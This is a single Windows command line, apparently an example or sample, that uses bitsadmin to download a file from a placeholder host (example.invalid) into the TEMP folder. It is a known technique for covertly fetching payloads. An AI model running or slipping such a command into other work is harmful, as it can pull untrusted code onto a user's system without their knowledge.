bitsadmin /transfer job /download /priority high http://example.invalid/a %TEMP%\a
